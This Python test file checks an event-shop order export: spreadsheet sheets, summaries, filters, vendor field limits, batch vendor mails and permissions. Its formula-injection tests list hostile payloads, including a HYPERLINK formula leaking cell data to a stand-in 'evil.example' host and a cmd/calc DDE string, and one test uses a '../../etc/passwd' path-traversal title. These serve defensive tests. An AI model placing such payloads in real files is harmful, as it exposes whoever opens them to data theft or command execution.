"""Exports: sheets, pivot totals, filters, vendor field limits, formula injection, batch vendors, permissions."""

from __future__ import annotations

import csv
import io
import json
import re
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pandas as pd
import pytest
from sqlalchemy import Engine, func, select, update
from sqlalchemy.orm import Session

from core.auth import Actor
from core.db import read_only, unit_of_work
from core.errors import DomainError, NotFound, PermissionDenied, SchemaError
from core.exports import ExportFilters, export_orders, order_sheets, vendor_export
from core.fulfilment import change_status
from core.models import (
    AuditEntry,
    Disclosure,
    Event,
    Item,
    MessageKind,
    Order,
    OrderLine,
    OrderPersonalData,
    OrderStatus,
    OutboxMessage,
    VendorMode,
    VendorSnapshot,
)
from core.spreadsheets import MAX_XLSX_ROWS, neutralise, write_xlsx
from core.vendor_batches import BatchKind, DueBatch, due_batches, export_history, exports_overview, send_batch
from tests.exports_factories import make_vendor, read_sheets, records, route
from tests.factories import make_event, make_item, make_shop, make_user
from tests.order_admin_factories import hoodie, place, tshirts

# Berlin is UTC+1 in March: an order at 23:30 UTC on 1 March was placed on 2 March there.
TIMEZONE = "Europe/Berlin"
BASE = datetime(2027, 3, 1, 12, 0, tzinfo=UTC)
ADDRESS = {"street": "1 High St", "city": "London", "postcode": "N1 1AA", "country": "GB"}
ADDRESS_TEXT = "1 High St, London, N1 1AA, GB"
PHONE = "+44 20 7946 0958"
PHONE_E164 = "+442079460958"
BREAKFAST = [{"item": "breakfast", "options": {}, "quantity": 1}]
FILE_NAME = re.compile(r"test-event-[a-z0-9-]+-\d{8}-\d{6}\.(xlsx|csv)")

# Known CSV/formula injection payloads; each must come back as text with a leading quote.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "\t=1",
    "\r=1",
    " =1+1",  # leading whitespace: some programs trim cells before reading them
    "\n@SUM(1)",
]
SAFE = ["Ada Lovelace", "a=b", "3-4", "e-mail me", "'already quoted", "＝1+1"]


@dataclass(frozen=True)
class World:
    engine: Engine
    event_id: int
    other_event_id: int
    alice: Actor  # organiser of the event
    bob: Actor  # organiser of the other event only
    printer_id: int  # batch vendor of t-shirts, sees names
    caterer_id: int  # batch vendor of breakfast, sees name and delivery address


@pytest.fixture
def world(engine: Engine) -> World:
    with unit_of_work(engine) as session:
        event = make_shop(session, timezone=TIMEZONE)
        other = make_shop(session, slug="other-event")
        alice = make_user(session, "alice", member_of=[event])
        bob = make_user(session, "bob", member_of=[other])
        printer = make_vendor(session, "Print Shop", emails=["orders@print.example", "ops@print.example"],
                              visible_fields=["name"])
        caterer = make_vendor(session, "Caterer", emails=["kitchen@caterer.example"],
                              visible_fields=["name", "delivery"])
        route(session, event, printer, "tshirt")
        route(session, event, caterer, "breakfast")
    return World(engine, event.id, other.id, alice, bob, printer.id, caterer.id)


def _place(world: World, key: str, items: list[dict[str, Any]], *, at: datetime = BASE,
           status: OrderStatus = OrderStatus.RECEIVED, event_id: int | None = None, **answers: Any) -> str:
    with unit_of_work(world.engine) as session:
        event = session.get_one(Event, event_id or world.event_id)
        reference = place(session, event, key, now=at, items=items, **answers)
        if status != OrderStatus.RECEIVED:
            session.execute(update(Order).where(Order.reference == reference).values(status=status))
        return reference


def _export(world: World, fmt: str = "xlsx", filters: ExportFilters | None = None) -> Any:
    with unit_of_work(world.engine) as session:
        return export_orders(session, world.alice, world.event_id, filters or ExportFilters(), fmt)  # type: ignore[arg-type]


def _sheets(world: World, filters: ExportFilters | None = None) -> dict[str, list[list[object]]]:
    return read_sheets(_export(world, "xlsx", filters).data)


def _send(world: World, vendor_id: int | None = None, *, actor: Actor | None | str = "alice",
          now: datetime = BASE) -> Any:
    with unit_of_work(world.engine) as session:
        who = world.alice if actor == "alice" else actor
        return send_batch(session, who, world.event_id, vendor_id or world.printer_id, now)  # type: ignore[arg-type]


def _batch_mails(world: World) -> list[OutboxMessage]:
    with read_only(world.engine) as session:
        rows = session.scalars(select(OutboxMessage).where(OutboxMessage.kind == MessageKind.VENDOR_BATCH)
                               .order_by(OutboxMessage.id)).all()
        for row in rows:
            assert row.attachment is not None  # loads the deferred column while the session is open
        return list(rows)


def _read_csv(data: bytes) -> list[list[Any]]:
    """Rows of a CSV file; unquoted fields come back as floats, so numbers are told from text."""
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so that Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), quoting=csv.QUOTE_NONNUMERIC))


def _line_id(world: World, reference: str, item_key: str) -> int:
    with read_only(world.engine) as session:
        return session.scalars(select(OrderLine.id).join(Order).where(Order.reference == reference,
                                                                      OrderLine.item_key == item_key)).one()


# --- the organiser's spreadsheet -------------------------------------------------------------------------------


def test_the_spreadsheet_has_orders_line_items_and_summary_sheets(world: World) -> None:
    ada = _place(world, "a", [*tshirts(2), *hoodie(1)], size_note="Roomy, please")
    grace = _place(world, "b", BREAKFAST, at=BASE + timedelta(hours=1), name="Grace Hopper",
                   email="grace@example.com", phone=PHONE, delivery=ADDRESS)
    exported = _export(world)
    assert exported.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheets = read_sheets(exported.data)
    assert list(sheets) == ["Orders", "Line items", "Summary"]
    assert records(sheets["Orders"]) == [
        {"Reference": ada, "Placed at": datetime(2027, 3, 1, 13, 0), "Status": "Received", "Total": 55,
         "Name": "Ada Lovelace", "Email": "ada@example.com", "Phone": None, "Delivery address": None,
         "Anything about sizes?": "Roomy, please"},
        {"Reference": grace, "Placed at": datetime(2027, 3, 1, 14, 0), "Status": "Received", "Total": 9.5,
         # A phone number in E.164 starts with "+", so it is quoted like any other such text (DESIGN.md, 6).
         "Name": "Grace Hopper", "Email": "grace@example.com", "Phone": "'" + PHONE_E164,
         "Delivery address": ADDRESS_TEXT,
         "Anything about sizes?": None},
    ]
    assert sheets["Line items"] == [
        ["Reference", "Item", "Variant", "Quantity", "Unit price", "Status"],
        [ada, "T-shirt", "Fitted, M", 2, 12.5, "Received"],
        [ada, "Hoodie", "L", 1, 30, "Received"],
        [grace, "Breakfast box", None, 1, 9.5, "Received"],
    ]


def test_placed_at_is_the_events_wall_clock_time_without_a_timezone(world: World) -> None:
    _place(world, "late", tshirts(), at=datetime(2027, 3, 1, 23, 30, tzinfo=UTC))
    placed = records(_sheets(world)["Orders"])[0]["Placed at"]
    assert placed == datetime(2027, 3, 2, 0, 30)  # Berlin's time, naive: Excel has no time zones


def test_the_summary_pivots_quantities_per_item_and_variant_with_totals_leaving_out_cancelled_orders(
    world: World,
) -> None:
    _place(world, "a", tshirts(2, size="M"))
    _place(world, "b", [*tshirts(1, size="S"), *hoodie(1)])
    _place(world, "c", tshirts(5, size="M"), status=OrderStatus.CANCELLED)
    _place(world, "d", BREAKFAST, delivery=ADDRESS)
    assert _sheets(world)["Summary"] == [
        ["Item", "Fitted, S", "Fitted, M", "L", "—", "Total"],  # catalogue order, "—" for no variant
        ["T-shirt", 1, 2, None, None, 3],
        ["Hoodie", None, None, 1, None, 1],
        ["Breakfast box", None, None, None, 1, 1],
        ["Total", 1, 2, 1, 1, 5],
    ]


def test_an_order_with_an_unpriced_item_has_no_total(world: World) -> None:
    with unit_of_work(world.engine) as session:
        make_item(session, session.get_one(Event, world.event_id), "pin", name="Pin", dimensions=[], price=None)
    _place(world, "a", [*tshirts(1), {"item": "pin", "options": {}, "quantity": 2}])
    sheets = _sheets(world)
    assert records(sheets["Orders"])[0]["Total"] is None
    assert [row[4] for row in sheets["Line items"][1:]] == [12.5, None]


def test_filters_narrow_by_status_and_by_days_in_the_events_time_zone(world: World) -> None:
    first = _place(world, "first", tshirts(), at=datetime(2027, 3, 1, 22, 30, tzinfo=UTC))  # 23:30 on 1 March
    second = _place(world, "second", tshirts(), at=datetime(2027, 3, 1, 23, 30, tzinfo=UTC))  # 00:30 on 2 March
    shipped = _place(world, "shipped", hoodie(), at=datetime(2027, 3, 2, 12, 0, tzinfo=UTC),
                     status=OrderStatus.SHIPPED)

    def references(**filters: Any) -> tuple[list[Any], list[Any]]:
        sheets = _sheets(world, ExportFilters(**filters))
        return [row[0] for row in sheets["Orders"][1:]], [row[0] for row in sheets["Line items"][1:]]

    assert references(date_from=date(2027, 3, 2), date_to=date(2027, 3, 2)) == ([second, shipped], [second, shipped])
    assert references(date_to=date(2027, 3, 1)) == ([first], [first])
    assert references(statuses=frozenset({OrderStatus.SHIPPED})) == ([shipped], [shipped])
    assert references(statuses=frozenset({OrderStatus.RECEIVED}), date_from=date(2027, 3, 2)) == ([second], [second])
    with pytest.raises(SchemaError, match="first day is after the last day"):
        _export(world, filters=ExportFilters(date_from=date(2027, 3, 2), date_to=date(2027, 3, 1)))


def test_the_vendor_filter_keeps_only_lines_of_items_routed_to_that_vendor(world: World) -> None:
    both = _place(world, "both", [*tshirts(2), *hoodie(1)])
    _place(world, "hoodie", hoodie(1))
    sheets = _sheets(world, ExportFilters(vendor_id=world.printer_id))
    assert [(row["Reference"], row["Total"]) for row in records(sheets["Orders"])] == [(both, 25)]
    assert sheets["Line items"][1:] == [[both, "T-shirt", "Fitted, M", 2, 12.5, "Received"]]
    assert sheets["Summary"] == [["Item", "Fitted, M", "Total"], ["T-shirt", 2, 2], ["Total", 2, 2]]


def test_a_vendor_without_items_in_the_event_is_not_found(world: World) -> None:
    with unit_of_work(world.engine) as session:
        stranger = make_vendor(session, "Someone else's vendor")
        route(session, session.get_one(Event, world.other_event_id), stranger, "hoodie")
        stranger_id = stranger.id
    for vendor_id in (stranger_id, 10_000):
        with pytest.raises(NotFound):
            _export(world, filters=ExportFilters(vendor_id=vendor_id))
        with unit_of_work(world.engine) as session, pytest.raises(NotFound):
            vendor_export(session, world.alice, world.event_id, vendor_id)


def test_the_csv_holds_the_line_items_only(world: World) -> None:
    ada = _place(world, "a", [*tshirts(2), *hoodie(1)])
    exported = _export(world, "csv")
    assert exported.mimetype == "text/csv"
    assert "line-items" in exported.filename and exported.filename.endswith(".csv")
    assert _read_csv(exported.data) == [
        ["Reference", "Item", "Variant", "Quantity", "Unit price", "Status"],
        [ada, "T-shirt", "Fitted, M", 2.0, 12.5, "Received"],
        [ada, "Hoodie", "L", 1.0, 30.0, "Received"],
    ]


def test_file_names_are_built_from_the_slug_and_a_timestamp_only(world: World) -> None:
    with unit_of_work(world.engine) as session:
        session.get_one(Event, world.event_id).title = "../../etc/passwd <b>"
    _place(world, "a", tshirts())
    names = [_export(world, "xlsx").filename, _export(world, "csv").filename]
    with unit_of_work(world.engine) as session:
        names += [vendor_export(session, world.alice, world.event_id, world.printer_id, fmt=fmt).filename
                  for fmt in ("xlsx", "csv")]
    _send(world)
    names.append(_batch_mails(world)[0].attachment_name)
    assert all(FILE_NAME.fullmatch(str(name)) for name in names), names


def test_exports_are_audited_with_filters_and_counts_but_no_personal_data(world: World) -> None:
    _place(world, "a", [*tshirts(2), *hoodie(1)])
    _export(world, "csv", ExportFilters(statuses=frozenset({OrderStatus.RECEIVED}), date_from=date(2027, 3, 1)))
    with read_only(world.engine) as session:
        entry = session.scalars(select(AuditEntry).where(AuditEntry.action == "orders.exported")).one()
    assert (entry.actor, entry.event_id) == ("alice", world.event_id)
    assert entry.details == {"format": "csv", "orders": 1, "lines": 2,
                             "filters": {"statuses": ["received"], "date_from": "2027-03-01", "date_to": None,
                                         "vendor_id": None}}
    assert "Ada" not in json.dumps(entry.details) and "ada@" not in json.dumps(entry.details)


def test_answer_columns_never_share_a_header(engine: Engine) -> None:
    form = {"fields": [{"key": "status", "type": "short_text", "label": "Status"},
                       {"key": "a", "type": "short_text", "label": "Note"},
                       {"key": "b", "type": "short_text", "label": "Note"},
                       {"key": "items", "type": "items", "label": "Items", "required": True}]}
    with unit_of_work(engine) as session:
        event = make_event(session, form=form)
        make_item(session, event, "tshirt")
        alice = make_user(session, "alice", member_of=[event])
        place(session, event, "k", items=tshirts(), status="late", a="one", b="two")
        orders = order_sheets(session, alice, event.id, ExportFilters())["Orders"]
    assert orders.iloc[0].to_dict() | {"Placed at": None} == {
        "Reference": orders.iloc[0]["Reference"], "Placed at": None, "Status": "Received", "Total": 12.5,
        "Status (status)": "late", "Note": "one", "Note (b)": "two"}


def test_a_sheet_beyond_excels_row_limit_is_refused() -> None:
    with pytest.raises(SchemaError, match="at most 1,048,575"):
        write_xlsx({"Line items": pd.DataFrame({"Quantity": range(MAX_XLSX_ROWS + 1)})})


# --- formula injection -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_read_as_a_formula_gets_a_leading_quote(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", SAFE)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert neutralise(text) == text


INJECTION_FORM = {"fields": [
    {"key": "name", "type": "short_text", "label": "Name", "personal": True, "purpose": "To label the order."},
    {"key": "note", "type": "short_text", "label": "@label"},
    {"key": "count", "type": "number", "label": "How many guests", "min_value": -10},
    {"key": "items", "type": "items", "label": "Items", "required": True},
]}


def test_formula_payloads_come_back_as_quoted_text_from_xlsx_and_csv_and_numbers_stay_numbers(
    engine: Engine,
) -> None:
    with unit_of_work(engine) as session:
        event = make_event(session, form=INJECTION_FORM)
        make_item(session, event, "tshirt", name="=SUM(A1:A9)", dimensions=[], price=Decimal("12.50"))
        alice = make_user(session, "alice", member_of=[event])
        vendor = make_vendor(session, visible_fields=["name", "note"])
        route(session, event, vendor, "tshirt")
        for index, payload in enumerate(PAYLOADS):
            reference = place(session, event, f"k{index}", items=[{"item": "tshirt", "options": {}, "quantity": 1}],
                              name="placeholder", note="placeholder", count=1)
            order = session.scalars(select(Order).where(Order.reference == reference)).one()
            # Written past validation (which strips and refuses some of them): stored data may come from anywhere.
            order.answers = {"note": payload, "count": -7}
            session.execute(update(OrderPersonalData).where(OrderPersonalData.order_id == order.id)
                            .values(answers={"name": payload}))
            if index == 0:
                session.execute(update(OrderLine).where(OrderLine.order_id == order.id)
                                .values(quantity=-2, unit_price=Decimal("-5.00")))
        event_id, vendor_id = event.id, vendor.id
    quoted = ["'" + payload for payload in PAYLOADS]
    with unit_of_work(engine) as session:
        xlsx = export_orders(session, alice, event_id, ExportFilters(), "xlsx")
        line_csv = export_orders(session, alice, event_id, ExportFilters(), "csv")
        vendor_csv = vendor_export(session, alice, event_id, vendor_id, fmt="csv")
        vendor_xlsx = vendor_export(session, alice, event_id, vendor_id, fmt="xlsx")

    sheets = read_sheets(xlsx.data)  # fails on any formula cell
    orders = records(sheets["Orders"])
    assert list(orders[0]) == ["Reference", "Placed at", "Status", "Total", "Name", "'@label", "How many guests"]
    assert [row["Name"] for row in orders] == quoted
    assert [row["'@label"] for row in orders] == quoted
    assert {row["How many guests"] for row in orders} == {-7}
    lines = records(sheets["Line items"])
    assert {row["Item"] for row in lines} == {"'=SUM(A1:A9)"}
    assert (lines[0]["Quantity"], lines[0]["Unit price"]) == (-2, -5)
    assert orders[0]["Total"] == 10  # -2 × -5
    assert sheets["Summary"][1][0] == "'=SUM(A1:A9)"

    csv_rows = _read_csv(line_csv.data)
    assert {row[1] for row in csv_rows[1:]} == {"'=SUM(A1:A9)"}
    assert csv_rows[1][3:5] == [-2.0, -5.0]  # unquoted, so read as numbers

    vendor_rows = _read_csv(vendor_csv.data)
    assert vendor_rows[0] == ["Reference", "Item", "Variant", "Quantity", "Status", "Name", "'@label"]
    assert [row[5] for row in vendor_rows[1:]] == quoted
    assert [row[6] for row in vendor_rows[1:]] == quoted
    assert [row["Name"] for row in records(read_sheets(vendor_xlsx.data)["Line items"])] == quoted


# --- what a vendor sees ----------------------------------------------------------------------------------------


def test_a_vendor_export_holds_only_that_vendors_lines_and_the_fields_it_may_see(world: World) -> None:
    ada = _place(world, "a", [*tshirts(2), *BREAKFAST], phone=PHONE, delivery=ADDRESS, size_note="secret note")
    _place(world, "b", hoodie(1), name="Grace Hopper", email="grace@example.com")
    _place(world, "c", tshirts(1), name="Alan Turing")
    allowed = {None, ada, "Breakfast box", 1, "Received", "Ada Lovelace", ADDRESS_TEXT,
               "Reference", "Item", "Variant", "Quantity", "Status", "Name", "Delivery address",
               "—", "Total"}
    with unit_of_work(world.engine) as session:
        xlsx = vendor_export(session, world.alice, world.event_id, world.caterer_id)
        csv_file = vendor_export(session, world.alice, world.event_id, world.caterer_id, fmt="csv")
    sheets = read_sheets(xlsx.data)
    assert list(sheets) == ["Line items", "Summary"]
    cells = [cell for rows in sheets.values() for row in rows for cell in row]
    assert cells and all(cell in allowed for cell in cells), [cell for cell in cells if cell not in allowed]
    csv_cells = [cell for row in _read_csv(csv_file.data) for cell in row]
    assert all(cell in allowed | {"", 1.0} for cell in csv_cells), csv_cells
    assert {"Ada Lovelace", ADDRESS_TEXT} <= set(cells) and {"Ada Lovelace", ADDRESS_TEXT} <= set(csv_cells)


# --- batch vendors ---------------------------------------------------------------------------------------------


def test_the_first_batch_sends_every_current_line_item_of_the_vendor(world: World) -> None:
    ada = _place(world, "a", [*tshirts(2), *hoodie(1)])
    _place(world, "b", tshirts(1, size="S"), name="Grace Hopper", status=OrderStatus.CANCELLED)
    _place(world, "c", hoodie(1), name="Alan Turing")
    result = _send(world)
    assert (result.kind, result.rows, result.orders, result.added) == (BatchKind.FULL, 1, 1, 1)
    assert "full list (1 line item in 1 order)" in result.message
    [mail] = _batch_mails(world)
    assert (mail.id, mail.event_id, mail.vendor_id) == (result.message_id, world.event_id, world.printer_id)
    assert mail.recipients == ["orders@print.example", "ops@print.example"]
    assert "all line items" in mail.subject and "Print Shop" in mail.subject
    assert mail.attachment is not None
    sheets = read_sheets(mail.attachment)
    assert list(sheets) == ["Line items", "Summary"]
    assert records(sheets["Line items"]) == [{"Reference": ada, "Item": "T-shirt", "Variant": "Fitted, M",
                                              "Quantity": 2, "Status": "Received", "Name": "Ada Lovelace"}]
    with read_only(world.engine) as session:
        snapshot = session.scalars(select(VendorSnapshot)).one()
        disclosures = session.execute(select(Disclosure.order_id, Disclosure.fields, Disclosure.message_id,
                                             Disclosure.vendor_name)).all()
        ada_id = session.scalars(select(Order.id).where(Order.reference == ada)).one()
        entry = session.scalars(select(AuditEntry).where(AuditEntry.action == "vendor.batch_sent")).one()
    assert (snapshot.is_delta, snapshot.rows, snapshot.actor, snapshot.message_id) == (False, 1, "alice", mail.id)
    assert set(snapshot.lines) == {str(_line_id(world, ada, "tshirt"))}
    assert [tuple(d) for d in disclosures] == [(ada_id, ["name"], mail.id, "Print Shop")]
    assert entry.details["kind"] == "full" and entry.details["rows"] == 1
    assert "Ada" not in json.dumps(entry.details)


def test_a_disclosure_names_only_the_fields_an_order_has_an_answer_to(world: World) -> None:
    with unit_of_work(world.engine) as session:
        hoodies = make_vendor(session, "Hoodies", visible_fields=["name", "phone"])
        route(session, session.get_one(Event, world.event_id), hoodies, "hoodie")
        hoodies_id = hoodies.id
    with_phone = _place(world, "a", hoodie(1), phone=PHONE)
    without = _place(world, "b", hoodie(1), name="Grace Hopper")
    _send(world, hoodies_id)
    with read_only(world.engine) as session:
        fields = dict(session.execute(select(Order.reference, Disclosure.fields)
                                      .join(Disclosure, Disclosure.order_id == Order.id)).all())
    assert fields == {with_phone: ["name", "phone"], without: ["name"]}


def test_the_next_batch_sends_only_lines_added_changed_or_cancelled_since(world: World) -> None:
    ada = _place(world, "a", tshirts(2, size="M"))
    grace = _place(world, "b", tshirts(1, size="S"), name="Grace Hopper")
    alan = _place(world, "c", tshirts(1, size="L"), name="Alan Turing")
    assert _send(world).rows == 3
    with unit_of_work(world.engine) as session:
        session.execute(update(OrderLine).where(OrderLine.id == _line_id(world, ada, "tshirt")).values(quantity=3))
        change_status(session, world.alice, world.event_id, [grace], OrderStatus.CANCELLED)
        change_status(session, world.alice, world.event_id, [alan], OrderStatus.IN_PRODUCTION)  # not news
    edsger = _place(world, "d", tshirts(1, size="M"), name="Edsger Dijkstra")

    result = _send(world, now=BASE + timedelta(days=1))
    assert (result.kind, result.added, result.changed, result.cancelled, result.rows) == (BatchKind.DELTA, 1, 1, 1, 3)
    first, second = _batch_mails(world)
    assert "changes" in second.subject and second.attachment is not None
    sheets = read_sheets(second.attachment)
    assert list(sheets) == ["Changes", "Summary"]
    changes = {row["Reference"]: row for row in records(sheets["Changes"])}
    assert changes == {
        ada: {"Change": "changed", "Reference": ada, "Item": "T-shirt", "Variant": "Fitted, M", "Quantity": 3,
              "Status": "Received", "Name": "Ada Lovelace", "Before": "2 × T-shirt (Fitted, M)"},
        # A cancelled line tells the vendor what not to make, and nothing about the person.
        grace: {"Change": "cancelled", "Reference": grace, "Item": "T-shirt", "Variant": "Fitted, S", "Quantity": 1,
                "Status": "Cancelled", "Name": None, "Before": None},
        edsger: {"Change": "added", "Reference": edsger, "Item": "T-shirt", "Variant": "Fitted, M", "Quantity": 1,
                 "Status": "Received", "Name": "Edsger Dijkstra", "Before": None},
    }
    assert sheets["Summary"] == [["Item", "Fitted, M", "Fitted, L", "Total"], ["T-shirt", 4, 1, 5],
                                 ["Total", 4, 1, 5]]
    with read_only(world.engine) as session:
        told = set(session.execute(select(Order.reference).join(Disclosure, Disclosure.order_id == Order.id)
                                   .where(Disclosure.message_id == second.id)).scalars())
        snapshots = session.scalars(select(VendorSnapshot).order_by(VendorSnapshot.id)).all()
    assert told == {ada, edsger}
    assert [s.is_delta for s in snapshots] == [False, True]
    assert set(snapshots[1].lines) == {str(_line_id(world, r, "tshirt")) for r in (ada, alan, edsger)}

    again = _send(world, now=BASE + timedelta(days=2))
    assert (again.kind, again.message_id, again.snapshot_id) == (BatchKind.NO_CHANGES, None, None)
    assert "no mail was sent" in again.message
    assert len(_batch_mails(world)) == 2
    with read_only(world.engine) as session:
        assert session.scalar(select(func.count()).select_from(VendorSnapshot)) == 2


def test_two_sends_at_once_send_the_full_list_once(world: World) -> None:
    """The cutoff timer in two app processes, or a timer and a click: the second waits, then finds nothing new."""
    _place(world, "a", tshirts())
    first_sent, results = threading.Event(), []

    def send(hold: bool) -> None:
        with unit_of_work(world.engine) as session:
            results.append(send_batch(session, world.alice, world.event_id, world.printer_id, BASE).kind)
            if hold:
                first_sent.set()
                time.sleep(0.5)  # the other send starts meanwhile and must wait for this commit

    holder = threading.Thread(target=send, args=(True,))
    holder.start()
    assert first_sent.wait(10)
    send(False)
    holder.join()
    assert results == [BatchKind.FULL, BatchKind.NO_CHANGES]
    assert len(_batch_mails(world)) == 1


def test_lines_whose_item_went_to_another_vendor_are_cancelled_for_the_first(world: World) -> None:
    ada = _place(world, "a", tshirts(2))
    _send(world)
    with unit_of_work(world.engine) as session:
        session.execute(update(Item).where(Item.event_id == world.event_id, Item.key == "tshirt")
                        .values(vendor_id=world.caterer_id))
    result = _send(world)
    assert (result.kind, result.cancelled) == (BatchKind.DELTA, 1)
    attachment = _batch_mails(world)[-1].attachment
    assert attachment is not None
    assert records(read_sheets(attachment)["Changes"]) == [
        {"Change": "cancelled", "Reference": ada, "Item": "T-shirt", "Variant": "Fitted, M", "Quantity": 2,
         "Status": "Cancelled", "Name": None, "Before": None}]


def test_only_batch_vendors_with_an_email_address_are_sent_a_list(world: World) -> None:
    with unit_of_work(world.engine) as session:
        event = session.get_one(Event, world.event_id)
        per_order = make_vendor(session, "Per order", mode=VendorMode.PER_ORDER)
        silent = make_vendor(session, "No mail", emails=[])
        route(session, event, per_order, "hoodie")
        route(session, event, silent, "tshirt")
        ids = per_order.id, silent.id
    for vendor_id, message in zip(ids, ("only batch vendors", "no email address"), strict=True):
        with pytest.raises(DomainError, match=message):
            _send(world, vendor_id)
    assert _batch_mails(world) == []


def test_the_system_sends_batches_in_its_own_name(world: World) -> None:
    _place(world, "a", tshirts())
    _send(world, actor=None)
    with read_only(world.engine) as session:
        assert session.scalars(select(VendorSnapshot.actor)).one() == "system"
        assert session.scalars(select(AuditEntry.actor).where(AuditEntry.action == "vendor.batch_sent")).one() == \
            "system"


def test_due_batches_lists_batch_vendors_past_their_events_cutoff_that_were_never_sent_a_list(
    world: World,
) -> None:
    now = BASE + timedelta(hours=1)
    with unit_of_work(world.engine) as session:
        session.get_one(Event, world.event_id).vendor_cutoff_at = BASE
        per_order = make_vendor(session, "Per order", mode=VendorMode.PER_ORDER)
        route(session, session.get_one(Event, world.event_id), per_order, "hoodie")
        later = make_shop(session, slug="later", vendor_cutoff_at=BASE + timedelta(days=1))
        archived = make_shop(session, slug="archived", vendor_cutoff_at=BASE, archived_at=BASE)
        purged = make_shop(session, slug="purged", vendor_cutoff_at=BASE, purged_at=BASE)
        no_cutoff = make_shop(session, slug="no-cutoff")
        for other in (later, archived, purged, no_cutoff):
            route(session, other, make_vendor(session, f"Batch of {other.slug}"), "tshirt")
    with read_only(world.engine) as session:
        assert due_batches(session, now) == [DueBatch(world.event_id, world.printer_id),
                                             DueBatch(world.event_id, world.caterer_id)]
    _send(world, world.printer_id)
    with read_only(world.engine) as session:
        assert due_batches(session, now) == [DueBatch(world.event_id, world.caterer_id)]


def test_the_history_lists_what_was_sent_to_whom_newest_first(world: World) -> None:
    _place(world, "a", tshirts())
    _send(world, now=BASE)
    _place(world, "b", tshirts(), name="Grace Hopper")
    _send(world, now=BASE + timedelta(hours=2), actor=None)
    with read_only(world.engine) as session:
        history = export_history(session, world.alice, world.event_id)
        overview = exports_overview(session, world.alice, world.event_id)
    assert history.to_dict("records") == [
        {"Sent": pd.Timestamp(2027, 3, 1, 15, 0), "Vendor": "Print Shop", "Kind": "delta", "Rows": 1,
         "Mail": "pending", "By": "system"},
        {"Sent": pd.Timestamp(2027, 3, 1, 13, 0), "Vendor": "Print Shop", "Kind": "full", "Rows": 1,
         "Mail": "pending", "By": "alice"},
    ]
    assert [(v.name, v.batch) for v in overview.vendors] == [("Caterer", True), ("Print Shop", True)]
    assert overview.history.equals(history)


# --- permissions -----------------------------------------------------------------------------------------------

CALLS: dict[str, Callable[[Session, World], object]] = {
    "order_sheets": lambda s, w: order_sheets(s, w.bob, w.event_id, ExportFilters()),
    "export_orders": lambda s, w: export_orders(s, w.bob, w.event_id, ExportFilters(), "xlsx"),
    "vendor_export": lambda s, w: vendor_export(s, w.bob, w.event_id, w.printer_id),
    "send_batch": lambda s, w: send_batch(s, w.bob, w.event_id, w.printer_id, BASE),
    "export_history": lambda s, w: export_history(s, w.bob, w.event_id),
    "exports_overview": lambda s, w: exports_overview(s, w.bob, w.event_id),
}


@pytest.mark.parametrize("call", CALLS.values(), ids=CALLS.keys())
def test_an_organiser_of_another_event_is_refused_by_every_function(
    world: World, call: Callable[[Session, World], object]
) -> None:
    _place(world, "a", tshirts())
    with unit_of_work(world.engine) as session, pytest.raises(PermissionDenied):
        call(session, world)
    assert _batch_mails(world) == []
    with read_only(world.engine) as session:
        assert session.scalar(select(func.count()).select_from(AuditEntry)
                              .where(AuditEntry.action.in_(["orders.exported", "vendor.batch_sent"]))) == 0
